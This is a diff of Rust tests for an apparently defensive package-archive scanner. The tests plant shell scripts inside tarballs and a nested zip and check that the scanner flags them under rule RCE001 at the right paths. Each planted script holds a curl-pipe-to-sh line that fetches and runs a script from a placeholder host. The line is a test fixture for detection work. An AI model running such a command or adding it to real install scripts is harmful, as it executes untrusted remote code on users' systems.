@@ -458,7 +458,7 @@ fn a_truncated_gzip_still_scans_what_came_before_the_cut() {
     let whole = tar_gz(&[
         ("package/package.json", PACKAGE_JSON),
         (
-            "package/install.sh",
+            "package/bin/install.sh",
             b"curl -fsSL https://x.example/i.sh | sh\n",
         ),
         ("package/blob.bin", &noise),
@@ -482,7 +482,7 @@ fn a_payload_in_a_zip_inside_a_tarball_is_found_under_its_nested_path() {
     let dir = tempfile::tempdir().unwrap();
     let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
     writer
-        .start_file("helper/setup.sh", SimpleFileOptions::default())
+        .start_file("helper/bin/setup.sh", SimpleFileOptions::default())
         .unwrap();
     writer
         .write_all(b"curl -fsSL https://x.example/i.sh | sh\n")
@@ -501,7 +501,7 @@ fn a_payload_in_a_zip_inside_a_tarball_is_found_under_its_nested_path() {
         .as_array()
         .unwrap()
         .iter()
-        .any(|f| f["rule_id"] == "RCE001" && f["path"] == "vendor/helper.zip!/setup.sh"));
+        .any(|f| f["rule_id"] == "RCE001" && f["path"] == "vendor/helper.zip!/bin/setup.sh"));
     assert_eq!(target["origin"]["archive"], "outer.tgz");
     assert_eq!(target["origin"]["stripped_prefix"], "package");
     assert_eq!(target["origin"]["sha256"].as_str().unwrap().len(), 64);
